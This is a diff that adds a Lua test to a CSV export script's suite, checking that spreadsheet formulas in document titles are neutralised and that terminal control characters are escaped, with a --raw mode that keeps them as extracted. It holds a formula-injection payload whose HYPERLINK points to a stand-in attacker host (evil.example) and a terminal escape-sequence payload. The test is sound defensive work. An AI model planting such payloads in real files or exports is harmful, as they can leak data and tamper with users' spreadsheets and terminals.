@@ -239,6 +239,29 @@ describe("examples", function()
       assert.equal(tricky, by_id[expected[1].id][col.title])
     end)
 
+    it("neutralises formulas and escapes controls in cells; --raw writes them as extracted (issue 16.4)", function()
+      local docs = c.documents:list({ state = { "done" }, limit = 2 }).data
+      local formula, hostile = '=HYPERLINK("http://evil.example/?leak","Invoice")', "\27]0;pwned\7 \194\155"
+      assert(c.documents:set_title(docs[1].id, formula))
+      assert(c.documents:set_title(docs[2].id, hostile))
+      --- The two titles as exported with these arguments.
+      local function titles(args)
+        local code, out, err = run("export_documents_csv.lua", args)
+        assert.equal(0, code, err)
+        local records = parse_csv(out)
+        local col = {}
+        for i, name in ipairs(table.remove(records, 1)) do col[name] = i end
+        local by_id = {}
+        for _, r in ipairs(records) do
+          by_id[r[1]] = r
+          assert.is_number(tonumber(r[col.totalGrossAmount]), r[col.totalGrossAmount]) -- numbers stay numbers
+        end
+        return { by_id[docs[1].id][col.title], by_id[docs[2].id][col.title] }
+      end
+      assert.same({ "'" .. formula, "\\x1B]0;pwned\\x07 \\u009B" }, titles({ "done" }))
+      assert.same({ formula, hostile }, titles({ "--raw", "done" }))
+    end)
+
     it("takes other states and writes to stdout", function()
       local seed = srv:control("GET", "/_mock/seed")
       local code, out, err = run("export_documents_csv.lua", { "failed, junk" })
